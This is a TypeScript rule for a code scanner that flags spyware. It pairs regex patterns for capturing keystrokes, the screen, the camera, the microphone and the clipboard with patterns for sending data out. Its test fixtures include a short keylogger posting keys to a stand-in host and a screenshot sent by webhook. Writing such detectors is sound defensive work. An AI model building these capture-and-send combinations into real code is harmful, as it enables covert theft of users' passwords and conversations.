import type { FileCheck } from '../../check.ts';
import { countWhile } from '../../facts/text/in-order.ts';
import { isCode } from '../../inventory/language.ts';

/** Ways to watch or hear the user. */
const WATCHES: readonly (readonly [pattern: RegExp, what: string, isForSpies?: true])[] = [
  [
    /\bpynput(?:\.keyboard)?\b[^\n]{0,60}\bListener\b|\bkeyboard\.(?:on_press|on_release|hook|record)\s{0,2}\(|\bkeyboard\.Listener\s{0,2}\(|\bGetAsyncKeyState\b|\bSetWindowsHookEx\w?\b|\bnew\s{1,2}GlobalKeyboardListener\b|\b(?:iohook|uiohook)\.on\(|\bpyHook\b|\bHookManager\s{0,2}\(/g,
    'key presses',
    true,
  ],
  [
    /\bImageGrab\.grab\s{0,2}\(|\bpyautogui\.screenshot\s{0,2}\(|\bpyscreenshot\b|\bmss\.mss\s{0,2}\(|\bscreenshot-desktop\b|\bdesktopCapturer\.getSources\b/g,
    'the screen',
  ],
  [/\bcv2\.VideoCapture\s{0,2}\(\s{0,2}0\b|\bCv2\.VideoCapture\b|\bnode-webcam\b/g, 'the camera'],
  [/\bpyaudio\.PyAudio\s{0,2}\(|\bsounddevice\.rec\s{0,2}\(|\bsd\.rec\s{0,2}\(/g, 'the microphone'],
  [
    /\bpyperclip\.(?:paste|copy)\s{0,2}\(|\bwin32clipboard\.GetClipboardData\b|\bread_clipboard\s{0,2}\(|\bto_clipboard\s{0,2}\(|\bclipboardy?\.(?:readSync|read)\s{0,2}\(|\bGet-Clipboard\b/gi,
    'the clipboard',
  ],
];
/** Ways out on which somebody waits for what was seen. */
const HANDS_OVER =
  /\bapi\.telegram\.org|\bwebhooks?\b|\bsmtplib\b|\bsendmail\b|\bsocket\.(?:connect|create_connection|socket)\s{0,2}\(|\bexfil|\.sendall\s{0,2}\(|\bsend_(?:photo|document|message)\b/gi;
/** Ways that assistants take too, to have speech written down, a picture described, or to show it on their own page. */
const POSTS =
  /\brequests\.(?:post|put)\s{0,2}\(|\burlopen\s{0,2}\(|\baxios\.post\s{0,2}\(|\bfetch\s{0,2}\([^\n]{0,80}POST|\bsocketio\b/gi;
const NEAR = 6000;

export const check: FileCheck = {
  id: 'data-handling-spyware',
  title: 'Watches the user and sends what it sees',
  severity: 'critical',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [506],
  why: `
    The code records key presses, the screen, the camera, the microphone or the clipboard, and has a way to send them off
    in the same file. That is how passwords and private conversations are stolen.`,
  fix: 'Remove it. A tool that is meant to record says so, shows that it does, and keeps the recording on the machine.',
  blindSpots: 'Recording and sending in different files are connected for key presses alone.',
  yieldsTo: ['data-handling-keylogger'],
  wants: {
    keywords: [
      'pynput',
      'keyboard.',
      'getasynckeystate',
      'setwindowshookex',
      'globalkeyboardlistener',
      'iohook',
      'pyhook',
      'hookmanager',
      'imagegrab',
      'pyautogui',
      'pyscreenshot',
      'mss.mss',
      'screenshot-desktop',
      'desktopcapturer',
      'videocapture',
      'pyaudio',
      'sounddevice',
      'sd.rec',
      'pyperclip',
      'win32clipboard',
      '_clipboard',
      'clipboard',
      'node-webcam',
    ],
  },
  examples: {
    bad: [
      {
        'log.py': `
          from pynput import keyboard
          with «keyboard.Listener(»on_press=save) as listener: listener.join()
          requests.post("https://c.example.net", data=keys)`,
      },
      {
        'shot.py': `
          image = «ImageGrab.grab(»)
          webhook.send(file=image)`,
      },
    ],
    good: [
      { 'keys.py': 'keyboard.on_press(handle_shortcut)\n' },
      { 'copy.py': 'pyperclip.copy(password)\nprint("copied")\n' },
      { 'upload.py': 'requests.post(url, json=report)\n' },
    ],
  },

  *find({ windows, language, text, context }) {
    if (!isCode(language) || context === 'docs') return;
    const handsOver = placesOf(text, HANDS_OVER);
    const posts = placesOf(text, POSTS);
    for (const window of windows) {
      for (const [pattern, what, isForSpies] of WATCHES) {
        for (const match of window.text.matchAll(pattern)) {
          const at = window.spanOf(match);
          const message = `The code records ${what} and can send it away.`;
          if (isNear(handsOver(), at)) yield { at, message };
          else if (isNear(posts(), at)) yield isForSpies === true ? { at, message } : { at, message, ...USUAL };
        }
      }
    }
  },
};

/** What assistants do too is a doubt, no verdict. */
const USUAL = { severity: 'medium', confidence: 'low' } as const;

/** Where a pattern matches, looked for when first asked. */
function placesOf(text: string, pattern: RegExp): () => readonly number[] {
  let places: readonly number[] | undefined;
  return () => (places ??= Array.from(text.matchAll(pattern), ({ index }) => index));
}

function isNear(places: readonly number[], at: { readonly start: number; readonly end: number }): boolean {
  const first = places[countWhile(places, (place) => place < at.start - NEAR)];
  return first !== undefined && first < at.end + NEAR;
}
